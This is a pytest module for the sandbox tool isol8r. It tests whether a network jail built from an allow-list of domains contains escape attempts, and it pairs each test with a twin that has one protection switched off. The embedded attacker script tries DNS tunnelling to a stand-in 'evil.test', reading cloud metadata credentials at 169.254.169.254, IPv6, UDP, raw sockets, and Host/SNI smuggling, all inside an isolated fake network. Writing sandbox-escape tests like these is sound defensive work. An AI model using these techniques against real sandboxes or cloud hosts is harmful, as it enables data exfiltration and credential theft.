"""Issue 16 item 5: every way out of an `--allow-domain` jail, each contained, each with a twin
that shows the exposure once the protection is off.

No packet leaves the machine: every jail runs under `ip netns exec HOST` in an island
(tests/nethelp.py): HOST stands in for the host, its only link leads to INET, the fake internet,
which has no link anywhere else. INET holds, besides fake_internet.py on ADDR (HTTP 8080 and
8081, "hello PATH host=HOST"), what the attacks aim at (SERVER below): "evil.test" on EVIL
(TCP 8080 answers EVIL, UDP 7777 echoes), a logging resolver on DNS (the island's only
nameserver: pypi.test is ADDR, evil.test EVIL, any other name ADDR; every question is written to
a file the test reads), a stand-in metadata service on 169.254.169.254:80 (answers CREDENTIALS),
and IPv6 on the veth (V6 serves "V6" on 8080). ICMP echo is answered by INET's kernel.

The attacker is one Python program (ATTACKS) that tries everything and prints what it got; it
runs once per configuration of the jail, cached for the module:
  allow     --allow-domain pypi.test ADDR (the allow-list under attack)
  names     --allow-domain pypi.test (a name rule alone: its private address stays refused)
and the twins, each with a protection off:
  user      --net user (outbound access, no allow-list)
  host      --net host (the island's namespace itself)
  rules     --allow-domain with rules that name what the attacks want (evil.test, the
            metadata address, EVIL)
  raw       --net host --no-userns --user 0 --cap NET_RAW (raw and packet sockets)
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, Iterator

import pytest

from conftest import ROOT, needs_root
from nethelp import Island, ip, island, stop, subnet

pytestmark = needs_root

N = subnet()
EVIL = f"10.202.{N}.2"
DNS = f"10.202.{N}.3"
META = "169.254.169.254"
V6 = f"fd00:{N}::2"
TAG = f"x{os.getpid()}"  # what the DNS tunnel tries to carry out

SERVER = r"""
import socket, sys, threading
evil, dns, meta, v6, log = sys.argv[1:6]
addr = sys.argv[6]

def tcp(family, host, port, reply):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(16)
    def loop():
        while True:
            c, _ = s.accept()
            try:
                c.settimeout(2)
                c.recv(4096)
            except OSError:
                pass
            c.sendall(reply)
            c.close()
    threading.Thread(target=loop, daemon=True).start()

def udp_echo():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((evil, 7777))
    while True:
        data, peer = u.recvfrom(512)
        u.sendto(b"echo " + data, peer)

def resolver():
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    d.bind((dns, 53))
    while True:
        q, peer = d.recvfrom(512)
        try:
            end, labels = 12, []
            while q[end]:
                labels.append(q[end + 1:end + 1 + q[end]].decode("ascii", "replace"))
                end += q[end] + 1
            name = ".".join(labels).lower()
            qtype = int.from_bytes(q[end + 1:end + 3], "big")
            with open(log, "a") as f:
                f.write(name + "\n")
            head = q[:2] + b"\x81\x80" + b"\x00\x01"
            question = q[12:end + 5]
            if qtype != 1:
                d.sendto(head + b"\x00\x00\x00\x00\x00\x00" + question, peer)
                continue
            ip = evil if name == "evil.test" else addr
            answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + socket.inet_aton(ip)
            d.sendto(head + b"\x00\x01\x00\x00\x00\x00" + question + answer, peer)
        except (IndexError, OSError):
            pass

tcp(socket.AF_INET, evil, 8080, b"EVIL")
tcp(socket.AF_INET, meta, 80, b"CREDENTIALS")
tcp(socket.AF_INET6, v6, 8080, b"V6")
threading.Thread(target=udp_echo, daemon=True).start()
threading.Thread(target=resolver, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"""

ATTACKS = r"""
import errno, json, os, socket, struct, sys
addr, evil, dns, meta, v6, tag = sys.argv[1:7]
out = {}

def why(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    return errno.errorcode.get(e.errno, str(e)) if e.errno else str(e)

def attempt(name, fn):
    try:
        out[name] = fn()
    except OSError as e:
        out[name] = why(e)

def fetch(host, port, request=b"GET / HTTP/1.0\r\n\r\n", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((host, port))
    s.sendall(request)
    data = b""
    while chunk := s.recv(4096):
        data += chunk
    s.close()
    return data.decode("latin-1").splitlines()[-1] if data else "empty"

def proxied(target, request=b"GET / HTTP/1.0\r\n\r\n"):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
    s.sendall(b"CONNECT " + target.encode() + b" HTTP/1.1\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    status = head.split(b"\r\n")[0].decode()
    if " 200 " not in status + " ":
        return status.split(" ", 2)[1] if " " in status else "closed"
    s.sendall(request)
    data = b""
    try:
        while chunk := s.recv(4096):
            data += chunk
    except socket.timeout:
        pass
    s.close()
    text = data.decode("latin-1")
    return text.splitlines()[-1] if text.strip() else "empty"

def query(name):
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"

def udp(host, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(data, (host, port))
    return s.recv(512)

def ping(kind):
    proto = socket.IPPROTO_ICMP
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "dgram" else socket.SOCK_RAW,
                      proto)
    s.settimeout(3)
    echo = struct.pack(">BBHHH", 8, 0, 0, 0x42, 1) + b"isol8r"
    csum = sum(struct.unpack(">%dH" % (len(echo) // 2), echo))
    csum = (csum >> 16) + (csum & 0xFFFF)
    echo = echo[:2] + struct.pack(">H", ~(csum + (csum >> 16)) & 0xFFFF) + echo[4:]
    s.sendto(echo, (addr, 0))
    while True:
        data = s.recv(512)
        icmp = data[20:] if kind == "raw" else data
        if icmp[:1] == b"\x00":
            return "reply"

def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    names = sorted(n for _, n in socket.if_nameindex() if n != "lo")
    s.close()
    return "opened " + ",".join(names)

def client_hello(sni):
    name = sni.encode()
    ext = struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b"\x03\x03" + b"\x00" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + \
        struct.pack(">H", len(ext)) + ext
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs

attempt("direct_ip", lambda: fetch(addr, 8080))
attempt("direct_evil", lambda: fetch(evil, 8080))
attempt("dns_outside", lambda: "answered" if udp(dns, 53, query("pypi.test"))[:2] == b"\x12\x34"
        else "garbled")
attempt("dns_tunnel_resolver",
        lambda: socket.getaddrinfo(f"{tag}-resolver.evil.test", 80, socket.AF_INET)[0][4][0])
attempt("dns_tunnel_proxy", lambda: proxied(f"{tag}-proxy.evil.test:443"))
attempt("connect_denied", lambda: proxied("evil.test:8080"))
attempt("connect_allowed", lambda: proxied("pypi.test:8080"))
attempt("connect_evil_address", lambda: proxied(f"{evil}:8080"))
attempt("metadata_direct", lambda: fetch(meta, 80))
attempt("metadata_proxy", lambda: proxied(f"{meta}:80"))
attempt("ipv6_direct", lambda: fetch(v6, 8080, family=socket.AF_INET6))
attempt("ipv6_proxy", lambda: proxied(f"[{v6}]:8080"))
attempt("ipv6_loopback_proxy", lambda: proxied("[::1]:3128"))
attempt("udp", lambda: udp(evil, 7777, b"out").decode())
attempt("icmp_ping_socket", lambda: ping("dgram"))
attempt("icmp_raw_socket", lambda: ping("raw"))
attempt("packet_socket", packet)
attempt("host_header", lambda: proxied("pypi.test:8080",
                                       b"GET /h HTTP/1.1\r\nHost: evil.test\r\nConnection: close"
                                       b"\r\n\r\n"))
attempt("sni", lambda: proxied("pypi.test:8081", client_hello("evil.test")))
print(json.dumps(out))
"""

CONFIGS: dict[str, dict[str, Any]] = {
    "allow": {"allow_domain": ["pypi.test", "ADDR"]},
    "names": {"allow_domain": ["pypi.test"]},
    # off: the twins below, each with one protection switched off
    "user": {"net": "user"},
    "host": {"net": "host"},
    "rules": {"allow_domain": ["pypi.test", "ADDR", "evil.test", EVIL, META]},
    "raw": {"net": "host", "no_userns": True, "user": "0", "cap": ["NET_RAW"]},
}


@pytest.fixture(scope="module")
def isle() -> Iterator[tuple[Island, Path]]:
    """The island, with the attacks' targets in its fake internet and the logging resolver as
    the island's nameserver; yields it and the resolver's log."""
    with island(mib=1) as isle, tempfile.TemporaryDirectory(prefix="isol8r-netesc-") as d:
        log = Path(d) / "queries"
        log.touch()
        os.chmod(d, 0o755)
        os.chmod(log, 0o666)
        for a in (EVIL, DNS, META):
            ip("-n", isle.inet, "addr", "add", f"{a}/32", "dev", "lo")
        ip("-n", isle.host, "addr", "add", f"fd00:{N}::1/64", "dev", "h0", "nodad")
        ip("-n", isle.inet, "addr", "add", f"{V6}/64", "dev", "i0", "nodad")
        subprocess.run(["ip", "netns", "exec", isle.host, "sysctl", "-qw",
                        "net.ipv4.ping_group_range=0 2147483647"], check=True)
        (Path("/etc/netns") / isle.host / "resolv.conf").write_text(f"nameserver {DNS}\n")
        server = subprocess.Popen(["ip", "netns", "exec", isle.inet, sys.executable, "-c",
                                   SERVER, EVIL, DNS, META, V6, str(log), isle.addr],
                                  stdout=subprocess.PIPE, text=True)
        try:
            assert server.stdout is not None and server.stdout.readline() == "ready\n"
            yield isle, log
        finally:
            stop(server)  # type: ignore[arg-type]


_cache: dict[str, tuple[dict[str, str], list[dict[str, Any]], list[str]]] = {}


def attack(isle: tuple[Island, Path], config: str) -> tuple[dict[str, str], list[dict[str, Any]],
                                                            list[str]]:
    """ATTACKS in a jail of this configuration (once per module): what each attack got, the
    run's net_denied, and the names the logging resolver was asked while it ran."""
    if config not in _cache:
        island_, log = isle
        options = {k: [island_.addr if x == "ADDR" else x for x in v] if isinstance(v, list)
                   else v for k, v in CONFIGS[config].items()}
        before = log.read_text().splitlines()
        code = ("import isol8r, json, sys\n"
                "r = isol8r.run(['/usr/bin/python3', '-c', sys.argv[1], *sys.argv[3:]], "
                "capture_output=True, timeout=120, **json.loads(sys.argv[2]))\n"
                "print(json.dumps([r.stdout.decode(), r.stderr.decode(), r.net_denied]))")
        env = dict(os.environ, PYTHONPATH=f"{ROOT / 'src'}{os.pathsep}{ROOT / 'tests'}",
                   ISOL8R_CLI_SERVER="0")
        p = subprocess.run(["ip", "netns", "exec", island_.host, sys.executable, "-c", code,
                            ATTACKS, json.dumps(options), island_.addr, EVIL, DNS, META, V6,
                            TAG], capture_output=True, text=True, timeout=300, env=env)
        assert p.returncode == 0, p.stderr
        stdout, stderr, denied = json.loads(p.stdout)
        assert stdout, stderr
        _cache[config] = (json.loads(stdout), denied or [],
                          log.read_text().splitlines()[len(before):])
    return _cache[config]


def reasons(denied: list[dict[str, Any]]) -> set[tuple[str, int, str]]:
    return {(d["host"], d["port"], d["reason"]) for d in denied}


# ---- direct connections -------------------------------------------------------------------------

def test_a_direct_connection_to_an_address_has_no_route(isle) -> None:
    got, _, _ = attack(isle, "allow")
    assert got["direct_ip"] == got["direct_evil"] == "ENETUNREACH", got


def test_direct_twin_an_open_network_reaches_the_address(isle) -> None:
    got, _, _ = attack(isle, "user")  # off: no allow-list, --net user
    assert got["direct_ip"] == "hello / host=None" and got["direct_evil"] == "EVIL", got


# ---- DNS: an outside resolver, and tunnelling ---------------------------------------------------

def test_dns_to_an_outside_resolver_and_a_dns_tunnel_go_nowhere(isle) -> None:
    """A query to the resolver's address has no route; the jail's own resolver has none either;
    a CONNECT to a name not in the list is refused before the proxy resolves it: the resolver
    is never asked a name the attacker made up."""
    got, denied, asked = attack(isle, "allow")
    assert got["dns_outside"] == "ENETUNREACH", got
    assert got["dns_tunnel_resolver"] != "10.202.%d.1" % N and got["dns_tunnel_proxy"] == "403"
    assert (f"{TAG}-proxy.evil.test", 443, "not in allow-list") in reasons(denied)
    assert not [q for q in asked if TAG in q], asked


def test_dns_twin_an_open_network_asks_the_resolver_whatever_it_likes(isle) -> None:
    got, _, asked = attack(isle, "user")  # off: no allow-list, --net user
    assert got["dns_outside"] == "answered", got
    assert got["dns_tunnel_resolver"] == f"10.202.{N}.1", got
    assert f"{TAG}-resolver.evil.test" in asked, asked


# ---- the proxy: denied names, rebinding, addresses ----------------------------------------------

def test_connect_to_a_denied_name_is_refused_and_listed(isle) -> None:
    got, denied, _ = attack(isle, "allow")
    assert got["connect_denied"] == "403" and got["connect_evil_address"] == "403", got
    assert got["connect_allowed"] == "hello / host=None", got  # the allowed one works
    assert ("evil.test", 8080, "not in allow-list") in reasons(denied), denied


def test_connect_twin_a_rule_for_the_name_lets_it_through(isle) -> None:
    got, _, _ = attack(isle, "rules")  # off: rules name evil.test and its address
    assert got["connect_denied"] == got["connect_evil_address"] == "EVIL", got


def test_an_allowed_name_resolving_to_a_private_address_is_refused(isle) -> None:
    """Rebinding: pypi.test is allowed by name but resolves to a private address (the fake
    internet's), which no name rule opens; the proxy resolves once and connects only to what it
    checked."""
    got, denied, _ = attack(isle, "names")
    island_, _ = isle
    assert got["connect_allowed"] == "403", got
    assert ("pypi.test", 8080, f"resolves to a private address {island_.addr}") in \
        reasons(denied), denied


def test_rebinding_twin_an_address_rule_opens_the_private_address(isle) -> None:
    got, _, _ = attack(isle, "allow")  # off: the address rule ADDR is the twin here
    assert got["connect_allowed"] == "hello / host=None", got


# ---- the metadata address -----------------------------------------------------------------------

def test_the_metadata_address_is_unreachable(isle) -> None:
    got, denied, _ = attack(isle, "allow")
    assert got["metadata_direct"] == "ENETUNREACH" and got["metadata_proxy"] == "403", got
    assert (META, 80, "address not in allow-list") in reasons(denied), denied


def test_metadata_twin_a_rule_naming_it_reaches_the_credentials(isle) -> None:
    got, _, _ = attack(isle, "rules")  # off: a rule names 169.254.169.254
    assert got["metadata_proxy"] == "CREDENTIALS", got


# ---- IPv6 ---------------------------------------------------------------------------------------

def test_ipv6_goes_nowhere(isle) -> None:
    got, denied, _ = attack(isle, "allow")
    assert got["ipv6_direct"] in ("ENETUNREACH", "EADDRNOTAVAIL"), got
    assert got["ipv6_proxy"] == got["ipv6_loopback_proxy"] == "403", got
    assert ("::1", 3128, "address not in allow-list") in reasons(denied), denied


def test_ipv6_twin_the_hosts_network_reaches_it(isle) -> None:
    got, _, _ = attack(isle, "host")  # off: --net host, the island's own namespace
    assert got["ipv6_direct"] == "V6", got


# ---- UDP, ICMP, raw and packet sockets ----------------------------------------------------------

def test_udp_icmp_raw_and_packet_sockets_are_contained(isle) -> None:
    got, _, _ = attack(isle, "allow")
    assert got["udp"] == "ENETUNREACH", got
    assert got["icmp_ping_socket"] in ("EACCES", "ENETUNREACH"), got
    assert got["icmp_raw_socket"] == got["packet_socket"] == "EPERM", got


def test_udp_twin_an_open_network_gets_the_echo(isle) -> None:
    got, _, _ = attack(isle, "user")  # off: no allow-list, --net user
    assert got["udp"] == "echo out", got


def test_icmp_twin_the_hosts_network_gets_a_reply(isle) -> None:
    got, _, _ = attack(isle, "host")  # off: --net host, where ping sockets are open to all
    assert got["icmp_ping_socket"] == "reply", got


def test_raw_twin_host_root_with_net_raw_sees_the_wire(isle) -> None:
    got, _, _ = attack(isle, "raw")  # off: no user namespace, host root, CAP_NET_RAW
    assert got["icmp_raw_socket"] == "reply", got
    assert got["packet_socket"] == "opened h0", got


# ---- what the proxy cannot see: Host header and SNI ---------------------------------------------

def test_a_host_header_or_sni_naming_another_host_reaches_only_the_checked_target(isle) -> None:
    """Inside a CONNECT tunnel the proxy relays bytes: a Host header or a TLS SNI naming
    evil.test arrives at pypi.test's server (which echoes the header, or answers the TLS bytes
    as a bad request), never at evil.test's; and the proxy saw no request for evil.test."""
    got, denied, asked = attack(isle, "allow")
    assert got["host_header"] == "hello /h host=evil.test", got
    assert got["sni"] not in ("EVIL", "403"), got
    assert "evil.test" not in asked, asked


def test_host_header_twin_a_rule_for_evil_reaches_evil(isle) -> None:
    got, _, _ = attack(isle, "rules")  # off: evil.test is in the rules: what reaching it looks like
    assert got["connect_denied"] == "EVIL", got

